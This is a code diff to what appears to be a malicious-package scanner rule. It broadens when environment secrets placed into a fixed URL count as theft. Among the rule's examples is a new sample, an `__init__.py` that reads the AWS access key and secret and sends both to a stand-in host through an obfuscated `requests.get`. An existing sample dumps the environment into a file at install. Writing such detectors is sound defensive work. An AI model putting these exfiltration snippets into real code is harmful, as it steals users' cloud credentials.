@@ -123,7 +123,9 @@ def _sent(path: str, call: Call) -> Iterator[Finding]:
         yield _finding(path, call, f"the caller's {argument[0].detail}", argument, sure=True)
     variable = tuple(t for t in call.taints(Source.VARIABLE) if secret_variable(t.detail))
     several = len({t.detail for t in variable}) >= _SEVERAL
-    if variable and call.phase.automatic and (several or hidden(call, place)):
+    spelled = {t.detail for k, a in call.arguments.items() if k in {"0", "url"} for t in a.taints if t in variable}
+    in_address = len(spelled) > 1 and _FIXED.match(place) is not None
+    if variable and (in_address or (call.phase.automatic and (several or hidden(call, place)))):
         yield claim(
             _ID,
             Behaviour.THEFT,
@@ -247,6 +249,14 @@ RULE = Rule(
         Example(
             title="the environment kept in a file at install",
             files={"setup.py": "import os\nos.system('env > build/LICENSE')\n"},
+        ),
+        Example(
+            title="two keys of a cloud, spelled in an address, when called",
+            files={
+                "pkg/__init__.py": "import os, requests as r\ndef load():\n"
+                "    k, s = os.environ['AWS_ACCESS_KEY_ID'], os.environ['AWS_SECRET_ACCESS_KEY']\n"
+                "    getattr(r, 'g' + 'et')('https://c.example.invalid/x/' + k + '/' + s)\n"
+            },
         ),
     ),
     quiet=(
